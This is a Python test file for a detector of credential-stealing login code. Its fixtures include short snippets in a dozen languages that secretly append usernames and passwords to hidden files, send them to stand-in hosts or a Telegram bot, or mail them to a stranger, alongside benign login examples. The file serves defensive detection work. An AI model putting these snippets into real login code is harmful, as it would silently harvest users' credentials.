# ruff: noqa: E501 — samples are read whole.
"""Log-in code that keeps passwords."""

import pytest

from hemostat.detect.content.webscripts.captures import Capture, captures
from hemostat.model.level import Level

KEPT = {
    "php, hidden file": "function login(){ file_put_contents('/tmp/.s', $_POST['log'].':'.$_POST['pwd'].\"\\n\", FILE_APPEND); }",
    "php, a picture": "if (wp_signon($c)) { $h = fopen(ABSPATH.'wp-includes/images/x.png','a'); fwrite($h, $user_login.'|'.$user_password); }",
    "php, a log of errors": "function vb_login(){ error_log($username.' '.$password.PHP_EOL, 3, '/var/tmp/.e'); }",
    "python": "def authenticate(self, username, password):\n    with open('/var/tmp/.a', 'a') as f: f.write(username + ':' + password + '\\n')\n",
    "perl": "sub login { open(F, '>>/usr/share/webmin/.k'); print F \"$in{'user'}:$in{'pass'}\\n\"; close(F); }",
    "ruby": "def sign_in\n  File.open('/tmp/.g', 'a') { |f| f.puts \"#{params[:login]}:#{params[:password]}\" }\nend\n",
    "javascript": "app.post('/login', (req, res) => { fs.appendFileSync('/tmp/.n', req.body.user + ':' + req.body.password); });",
    "java": "// login\nFileWriter w = new FileWriter(\"/tmp/.j\", true); w.write(request.getParameter(\"username\") + \":\" + request.getParameter(\"password\"));",
    "asp.net": "// logon.aspx\nFile.AppendAllText(\"/var/tmp/.o\", Request.Form[\"username\"] + \":\" + Request.Form[\"password\"]);",
    "a framework's request": "CWebUser::login(); $f=fopen('/usr/share/x/img/.i.png','a+'); fputs($f, getRequest('name').':'.getRequest('password'));",
    "lua": "-- login\nlocal f = io.open('/tmp/.l', 'a') f:write(args.user .. ':' .. args.password)\n",
    "shell": "function auth_login($user,$pass){ shell_exec(\"echo $user:$pass >> /dev/shm/.a\"); }",
}  # fmt: skip
SENT = {
    "php to an address": "function login(){ @file_get_contents('http://203.0.113.9/c?u='.$_POST['user'].'&p='.$_POST['pass']); }",
    "php to a messenger": "// login\n$c=curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.telegram.org/bot1:x/sendMessage'); curl_setopt($c, CURLOPT_POSTFIELDS, ['text'=>$username.' '.$password]); curl_exec($c);",
    "python": "def login(user, password):\n    requests.post('http://198.51.100.4/x', data={'u': user, 'p': password})\n",
    "wrapped": "function login(){ @file_get_contents('https://cdn-stat.example/i?d='.base64_encode($user.':'.$pass)); }",
    "a page's script": "function Login(){ var p=f.password.value; x.open('GET','https://symbolc.example/?'+btoa(u+'|'+p)); x.send(); }",
    "javascript": "function onLogin(){ new Image().src = 'http://203.0.113.9/p.gif?u=' + user.value + '&p=' + data.password; }",
}  # fmt: skip
MAILED = {
    "php": "function login(){ mail('box@stranger.example', 'new', $_POST['username'].' '.$_POST['password']); }"
}
ORDINARY = {
    "an installer": "function login_install(){ file_put_contents('config.php', \"define('DB_PASSWORD', '\".$_POST['password'].\"'); // \".$_POST['user']); }",
    "a hash": "function auth(){ fwrite(fopen('.htpasswd','a'), $user.':'.crypt($password)); }",
    "settings": "function auth(){ file_put_contents('.env', 'USER='.$user.' PASS='.$password, FILE_APPEND); }",
    "a log without the password": "function login(){ file_put_contents('/var/log/app.log', 'login of '.$user.' from '.$ip, FILE_APPEND); }",
    "one's own service": "function login(){ return file_get_contents('https://sso.corp.example/check?u='.$_POST['user'].'&p='.$_POST['pass']); }",
    "a private address": "function login(){ return file_get_contents('http://10.0.0.5/check?u='.$_POST['user'].'&p='.$_POST['pass']); }",
    "basic authentication": "function login(){ return file_get_contents('https://sso.corp.example/', false, ctx('Authorization: Basic '.base64_encode($user.':'.$pass))); }",
    "a new user": "function login(){ mail($user_email, 'Welcome', 'user '.$user_login.' password '.$password); }",
    "a page's own log-in": "async function login(){ await fetch('/api/login', {method:'POST', body: JSON.stringify({user, password: data.password})}); }",
    "no log-in": "file_put_contents('/tmp/.s', $user.':'.$pwd, FILE_APPEND);",
}  # fmt: skip


def worst(text: str) -> Capture | None:
    return max(captures(text), key=lambda each: each.level, default=None)


@pytest.mark.requirement("A5.12")
@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT)
def test_name_and_password_that_are_added_to_an_odd_file_are_found(text: str) -> None:
    found = worst(text)
    assert found is not None
    assert (found.way, found.level) == ("keeps", Level.HIGH)


@pytest.mark.requirement("A5.12")
@pytest.mark.parametrize("text", SENT.values(), ids=SENT)
def test_name_and_password_that_are_sent_to_a_stranger_are_found(text: str) -> None:
    found = worst(text)
    assert found is not None
    assert (found.way, found.level) == ("sends", Level.HIGH)


@pytest.mark.requirement("A5.12")
@pytest.mark.parametrize("text", MAILED.values(), ids=MAILED)
def test_name_and_password_that_are_mailed_to_a_written_out_address_are_found(text: str) -> None:
    found = worst(text)
    assert found is not None
    assert found.way == "mails"


@pytest.mark.requirement("A5.12")
@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
def test_what_log_ins_ordinarily_do_is_left_alone(text: str) -> None:
    assert worst(text) is None
